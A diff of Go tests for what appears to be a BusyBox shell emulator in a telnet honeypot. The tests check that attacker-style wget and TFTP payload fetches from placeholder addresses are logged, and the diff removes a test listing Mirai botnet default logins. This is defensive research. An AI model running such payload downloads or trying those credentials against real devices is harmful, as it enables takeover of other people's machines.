@@ -1,4 +1,4 @@
-package telnet
+package busybox
 
 import (
 	"bytes"
@@ -12,11 +12,11 @@ import (
 	"time"
 )
 
-func testShell(t *testing.T, arch string) *shell {
+func testShell(t *testing.T, arch string) *Shell {
 	t.Helper()
-	p := DefaultConfig().Profile
+	p := DefaultProfile()
 	p.Arch = arch
-	return newShell(newDevice(p))
+	return newShell(newDevice(p, DefaultLimits()))
 }
 
 // dump renders a parsed line compactly, for tests.
@@ -112,7 +112,9 @@ func TestParseLine(t *testing.T) {
 		{`a || { b; c; }`, `[a] || {[b]; [c]]`},
 		{`! grep x f`, `! [grep x f]`},
 		{`echo if then fi`, `[echo if then fi]`},
-		{`cat <<EOF`, `[cat <<EOF]`},
+		// A here-document's body follows its line (alone, "cat <<EOF" is
+		// unfinished: see TestUnfinishedLines).
+		{"cat <<EOF\nbody\nEOF", `[cat <<EOF]`},
 	} {
 		l, err := parseLine(tc.line)
 		if err != nil {
@@ -135,7 +137,8 @@ func TestParseLine(t *testing.T) {
 		`( ls`:                      `sh: syntax error: unexpected end of file (expecting ")")`,
 		`{ ls; `:                    `sh: syntax error: unexpected end of file (expecting "}")`,
 		`echo $(echo $(echo $(x)))`: "sh: out of memory",
-		`echo ${a%b}`:               "sh: ${a%b}: bad substitution",
+		// As Debian's busybox says it; ${a%b} is a valid pattern form.
+		`echo ${a!b}`: "sh: syntax error: bad substitution",
 	} {
 		if _, err := parseLine(line); err == nil || err.Error() != msg {
 			t.Errorf("%q: error %v, want %q", line, err, msg)
@@ -244,20 +247,8 @@ func TestELFPerArch(t *testing.T) {
 	}
 }
 
-func TestCredentialTable(t *testing.T) {
-	cs := newCredSet(miraiCredentials())
-	for _, c := range []Credential{{"root", "xc3511"}, {"root", ""}, {"admin", ""}, {"Administrator", "meinsm"}, {"admin", "4321"}, {"mother", "fucker"}, {"root", "7ujMko0admin"}} {
-		if _, ok := cs[c]; !ok {
-			t.Errorf("%v missing", c)
-		}
-	}
-	if _, ok := cs[Credential{"root", "hunter2"}]; ok {
-		t.Error("root/hunter2 accepted")
-	}
-}
-
 // runAll runs lines in one shell and checks each answer.
-func runAll(t *testing.T, sh *shell, cases []struct{ line, want string }) {
+func runAll(t *testing.T, sh *Shell, cases []struct{ line, want string }) {
 	t.Helper()
 	for _, tc := range cases {
 		if got := string(sh.run(context.Background(), tc.line)); got != tc.want {
@@ -312,7 +303,7 @@ func TestNameTooLong(t *testing.T) {
 }
 
 func TestOverlayPool(t *testing.T) {
-	dev := newDevice(DefaultConfig().Profile)
+	dev := newDevice(DefaultProfile(), DefaultLimits())
 	dev.pool = newOverlayPool(10 << 10)
 	a, b := newShell(dev), newShell(dev)
 	ctx := context.Background()
@@ -340,7 +331,7 @@ func TestOverlayPool(t *testing.T) {
 	if n := dev.pool.used.Load(); n != 0 {
 		t.Fatalf("pool holds %d bytes after every session closed", n)
 	}
-	if got, want := newDevice(DefaultConfig().Profile).pool.limit, int64(256<<20); got != want {
+	if got, want := newDevice(DefaultProfile(), DefaultLimits()).pool.limit, int64(256<<20); got != want {
 		t.Fatalf("default pool %d, want %d", got, want)
 	}
 }
@@ -348,7 +339,7 @@ func TestOverlayPool(t *testing.T) {
 // TestOverlayPoolCleanup: a shell dropped without close gives its bytes
 // back once collected.
 func TestOverlayPoolCleanup(t *testing.T) {
-	dev := newDevice(DefaultConfig().Profile)
+	dev := newDevice(DefaultProfile(), DefaultLimits())
 	func() {
 		sh := newShell(dev)
 		sh.run(context.Background(), "echo hello > /tmp/x")
@@ -371,7 +362,9 @@ func TestGrepWcStream(t *testing.T) {
 		{"grep -c x /tmp/big", "65536\n"},
 		{"grep -c y /tmp/big", "0\n"},
 		{"grep -ci X /tmp/big", "65536\n"},
-		{"wc -l /tmp/big", "    65536 /tmp/big\n"},
+		// One count is printed bare, file or not (BusyBox's wc, as Debian's
+		// busybox prints "27 /etc/passwd").
+		{"wc -l /tmp/big", "65536 /tmp/big\n"},
 		{"wc /tmp/big", "    65536     65536   1048576 /tmp/big\n"},
 		{"cat /etc/passwd | wc", "        4         4       136\n"},
 		{"grep -n daemon /etc/passwd", "2:daemon:x:1:1:daemon:/usr/sbin:/bin/false\n"},
@@ -423,7 +416,7 @@ func TestCommandSubstitution(t *testing.T) {
 		{`echo $(cat /dev/zero | wc -c)`, "65536\n"},
 		{`echo $(wget http://203.0.113.9/x.sh -O -)`, "Connecting to 203.0.113.9 (203.0.113.9:80)\n-                    100% |*******************************|    10  0:00:00 ETA\n#!/bin/sh\n"},
 	})
-	if len(sh.downloads) != 1 || sh.downloads[0].url != "http://203.0.113.9/x.sh" {
+	if len(sh.downloads) != 1 || sh.downloads[0].URL != "http://203.0.113.9/x.sh" {
 		t.Errorf("downloads in $( ): %+v", sh.downloads)
 	}
 	// Output is bounded.
@@ -567,7 +560,7 @@ func TestFetchIntentOnFailure(t *testing.T) {
 	if out != want {
 		t.Errorf("got %q\nwant %q", out, want)
 	}
-	if len(sh.downloads) != 1 || sh.downloads[0] != (download{"tftp://192.0.2.10/tftp1.sh", "tftp", "/tmp/tftp1.sh"}) {
+	if len(sh.downloads) != 1 || sh.downloads[0] != (Download{"tftp://192.0.2.10/tftp1.sh", "tftp", "/tmp/tftp1.sh", true}) {
 		t.Errorf("downloads %+v", sh.downloads)
 	}
 	if _, ok := sh.fs.stat("/tmp/tftp1.sh"); ok {
@@ -575,7 +568,7 @@ func TestFetchIntentOnFailure(t *testing.T) {
 	}
 	// Into a read-only directory: wget fails, the URL is recorded.
 	sh.run(context.Background(), "cd /; wget http://192.0.2.11/x.arm")
-	if len(sh.downloads) != 1 || sh.downloads[0].url != "http://192.0.2.11/x.arm" {
+	if len(sh.downloads) != 1 || sh.downloads[0].URL != "http://192.0.2.11/x.arm" {
 		t.Errorf("downloads %+v", sh.downloads)
 	}
 }
@@ -611,7 +604,7 @@ func TestUsageAndHelp(t *testing.T) {
 // Regression (review): a variable holding an escaped glob that ends in "/"
 // reached the glob with an empty base name and panicked on a dot-file.
 func TestGlobEscapedDirNoPanic(t *testing.T) {
-	sh := newShell(newDevice(DefaultConfig().Profile))
+	sh := newShell(newDevice(DefaultProfile(), DefaultLimits()))
 	defer sh.close()
 	ctx := context.Background()
 	for _, l := range []string{`mkdir '/tmp/*'`, `touch '/tmp/*/.x'`, `V='/tmp/\*/'`} {
@@ -624,7 +617,7 @@ func TestGlobEscapedDirNoPanic(t *testing.T) {
 
 // Regression (review): one word may not expand past the variable cap.
 func TestExpansionBounded(t *testing.T) {
-	sh := newShell(newDevice(DefaultConfig().Profile))
+	sh := newShell(newDevice(DefaultProfile(), DefaultLimits()))
 	defer sh.close()
 	ctx := context.Background()
 	sh.run(ctx, `X=$(cat /dev/zero)`)
